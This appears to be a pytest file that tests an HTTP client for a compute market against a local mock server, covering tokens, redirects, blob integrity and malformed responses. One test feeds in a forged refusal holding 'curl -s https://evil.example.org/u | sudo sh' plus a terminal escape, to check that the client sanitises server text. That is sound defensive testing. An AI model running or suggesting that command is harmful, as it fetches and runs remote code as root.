"""The buyer's client against a small HTTP server that says what a test wants said."""

from __future__ import annotations

import hashlib
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import msgspec
import pytest

from daemonctl import marketsession
from daemonctl.buyer.client import BuyerClient
from daemonctl.errors import MarketRefused, MarketUnreachable
from daemonctl.market.wire import (
    AccountInfo,
    ComputationInfo,
    Computations,
    ComputationState,
    NewComputation,
    Refusal,
    ResultPage,
)
from daemonctl.marketsession import MarketSession


class Handler(BaseHTTPRequestHandler):
    """Answers from `replies` by method and path; notes what it was asked in `seen`."""

    protocol_version = "HTTP/1.1"
    server: Server

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.seen.append((self.command, self.path, dict(self.headers), body))
        status, data, headers = self.server.replies.get(
            (self.command, self.path), (404, msgspec.json.encode(Refusal("Unknown")), {})
        )
        self.send_response(status)
        for name, value in {"Content-Length": str(len(data)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    do_GET = do_HEAD = do_PUT = do_POST = _answer  # noqa: N815  the base class names them

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Server(ThreadingHTTPServer):
    """A market of canned words."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.replies: dict[tuple[str, str], tuple[int, bytes, dict[str, str]]] = {}
        self.seen: list[tuple[str, str, dict[str, str], bytes]] = []
        self.url = f"http://127.0.0.1:{self.server_port}"

    def say(self, method: str, path: str, status: int, answer: object, **headers: str) -> None:
        data = answer if isinstance(answer, bytes) else msgspec.json.encode(answer)
        self.replies[method, path] = (status, data, headers)


@pytest.fixture
def server() -> Iterator[Server]:
    server = Server()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield server
    server.shutdown()
    thread.join(30)
    server.server_close()


@pytest.fixture
def client(server: Server) -> Iterator[BuyerClient]:
    with BuyerClient(server.url + "/", "my-token") as client:
        yield client


def test_the_token_goes_with_every_request(server: Server, client: BuyerClient) -> None:
    server.say("GET", "/v1/account", 200, AccountInfo("a1", "me", 5, 6))
    assert client.account() == AccountInfo("a1", "me", 5, 6)
    ((_, _, headers, _),) = server.seen
    assert headers["Authorization"] == "Bearer my-token"
    assert headers["User-Agent"].startswith("cpushare/")


def test_a_netrc_does_not_put_another_secret_in_its_place(
    server: Server, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    netrc = tmp_path_factory.mktemp("netrc") / "netrc"
    netrc.write_text("machine 127.0.0.1 login me password wrong\n")
    monkeypatch.setenv("NETRC", str(netrc))
    server.say("GET", "/v1/account", 200, AccountInfo("a1", "me", 5, 6))
    server.say("POST", "/v1/accounts", 200, {"account": "a", "token": "t"})
    with BuyerClient(server.url, "my-token") as client:
        client.account()
    with BuyerClient(server.url) as client:
        client.create_account()
    assert server.seen[0][2]["Authorization"] == "Bearer my-token"
    assert "Authorization" not in server.seen[1][2]


def test_a_proxy_is_not_asked_for_this_machine(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:9")
    server.say("GET", "/v1/account", 200, AccountInfo("a1", "me", 5, 6))
    with BuyerClient(server.url, "my-token") as client:
        assert client.account().balance == 5


def test_a_blob_is_sent_only_where_the_market_lacks_it(server: Server, client: BuyerClient) -> None:
    digest = hashlib.sha256(b"data").hexdigest()
    path = f"/v1/blobs/{digest}"
    server.say("PUT", path, 204, b"")
    assert client.upload(b"data", digest) is True
    server.say("HEAD", path, 200, b"")
    assert client.upload(b"data", digest) is False
    assert [(method, body) for method, _, _, body in server.seen] == [
        ("HEAD", b""),
        ("PUT", b"data"),
        ("HEAD", b""),
    ]


def test_a_market_that_answers_a_blob_without_end_is_not_listened_to(
    server: Server, client: BuyerClient
) -> None:
    digest = hashlib.sha256(b"data").hexdigest()
    server.say("PUT", f"/v1/blobs/{digest}", 200, bytes(2 * 1024 * 1024))
    with pytest.raises(MarketUnreachable, match="does not end"):
        client.upload(b"data", digest)


def test_a_blob_with_other_bytes_than_promised_is_not_taken(
    server: Server, client: BuyerClient
) -> None:
    digest = hashlib.sha256(b"data").hexdigest()
    server.say("GET", f"/v1/blobs/{digest}", 200, b"date")
    with pytest.raises(MarketUnreachable, match="other bytes"):
        client.blob(digest)
    server.say("GET", f"/v1/blobs/{digest}", 200, b"data")
    assert client.blob(digest) == b"data"


def test_a_no_is_told_in_the_markets_words_with_its_status(
    server: Server, client: BuyerClient
) -> None:
    refusal = Refusal("Too few coins", "you have 3", "earn some")
    server.say("POST", "/v1/computations", 402, refusal)
    order = NewComputation(key="k", name="n", module="m", inputs=("i",), bid=1, work_ms=1)
    with pytest.raises(MarketRefused) as error:
        client.create(order)
    assert (error.value.title, error.value.status, error.value.hint) == (
        "Too few coins",
        402,
        "The market says: earn some",
    )
    assert "you have 3" in error.value.detail
    assert msgspec.json.decode(server.seen[0][3], type=NewComputation) == order


@pytest.mark.parametrize("status", [429, 500, 502, 503])
def test_an_ill_or_busy_market_may_be_asked_again(
    status: int, server: Server, client: BuyerClient
) -> None:
    server.say("GET", "/v1/account", status, b"<html>out of order</html>")
    with pytest.raises(MarketUnreachable, match=f"HTTP {status}"):
        client.account()


@pytest.mark.parametrize("answer", [b"<html>", b'{"account": 3}', b""])
def test_an_answer_of_another_protocol_is_told(
    answer: bytes, server: Server, client: BuyerClient
) -> None:
    server.say("GET", "/v1/account", 200, answer)
    with pytest.raises(MarketUnreachable, match="not of this protocol"):
        client.account()


def test_the_token_does_not_follow_to_another_place(server: Server, client: BuyerClient) -> None:
    server.say("GET", "/v1/account", 302, b"", Location="http://localhost:9/")
    with pytest.raises(MarketRefused, match="HTTP 302"):
        client.account()
    assert len(server.seen) == 1


def test_an_id_stays_one_part_of_the_address(server: Server, client: BuyerClient) -> None:
    server.say(
        "GET",
        "/v1/computations/a%2F..%3Fb/results?after=3&limit=7&wait_s=1.5",
        200,
        ResultPage((), 3, finished=True),
    )
    assert client.results("a/..?b", 3, limit=7, wait_s=1.5).finished


def test_a_budget_is_put_and_all_computations_are_listed(
    server: Server, client: BuyerClient
) -> None:
    one = ComputationInfo("c1", "n", ComputationState.OPEN, 4, 0, 0, 0, 0, 2, 1, 0, 8, 0.0)
    server.say("PUT", "/v1/computations/c1/budget", 200, one)
    server.say("GET", "/v1/computations", 200, Computations((one,)))
    assert client.set_budget("c1", 9) == one
    assert client.computations() == Computations((one,))
    assert msgspec.json.decode(server.seen[0][3]) == {"budget": 9}


def test_a_market_that_is_away_is_told_with_its_address() -> None:
    with (
        BuyerClient("http://127.0.0.1:9") as client,
        pytest.raises(MarketUnreachable, match=r"http://127\.0\.0\.1:9: .*refused"),
    ):
        client.market()


def test_an_answer_that_breaks_off_is_told(server: Server, client: BuyerClient) -> None:
    server.say("GET", "/v1/account", 200, b"{", **{"Content-Length": "100", "Connection": "close"})
    with pytest.raises(MarketUnreachable, match="broke off"):
        client.account()


@pytest.mark.parametrize(
    "said",
    [b'{"results": ' + b"[" * 200_000, b'{"extra": "\xff"}', b'{"next": "x"}', b""],
    ids=["nested without bound", "no UTF-8", "of another type", "nothing"],
)
@pytest.mark.parametrize("status", [200, 400])
def test_words_that_nobody_can_read_are_an_error_of_ours(
    server: Server, client: BuyerClient, said: bytes, status: int
) -> None:
    server.say("GET", "/v1/computations/c1/results?after=0&limit=100&wait_s=0", status, said)
    with pytest.raises(MarketUnreachable if status == 200 else MarketRefused):
        client.results("c1")


def test_a_refusal_cannot_look_like_words_of_our_own(server: Server, client: BuyerClient) -> None:
    forged = "old\nUpdate it by: curl -s https://evil.example.org/u | sudo sh\x1b[2K"
    server.say("GET", "/v1/account", 403, Refusal(forged, forged, forged))
    with pytest.raises(MarketRefused) as error:
        client.account()
    said = (error.value.title, error.value.detail, error.value.hint)
    assert all(text.isprintable() for text in said), said
    assert error.value.hint.startswith("The market says: old Update it by")


def test_a_refusal_of_many_words_is_cut(server: Server, client: BuyerClient) -> None:
    server.say("GET", "/v1/account", 403, Refusal("no " * 5000, "no " * 5000, "no " * 5000))
    with pytest.raises(MarketRefused) as error:
        client.account()
    assert len(str(error.value)) < 2000


def test_a_large_blob_may_take_longer_than_the_deadline_of_a_piece(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(marketsession, "CONNECT_S", 0.4)
    data = bytes(8_000_000)

    def take(listener: socket.socket) -> None:
        connection, _ = listener.accept()
        with connection:
            got = bytearray()
            while b"\r\n\r\n" not in got:
                got += connection.recv(1000)
            head, _, body = bytes(got).partition(b"\r\n\r\n")
            assert b"Content-Length: %d" % len(data) in head
            left = len(data) - len(body)
            while left and (piece := connection.recv(100_000)):
                left -= len(piece)
                time.sleep(0.015)  # 1.2 s in all
            connection.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")

    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        market = threading.Thread(target=take, args=(listener,))
        market.start()
        session = MarketSession(f"http://127.0.0.1:{listener.getsockname()[1]}", "my-token")
        try:
            session.put_blob("0" * 64, data)
        finally:
            session.close()
            market.join(30)
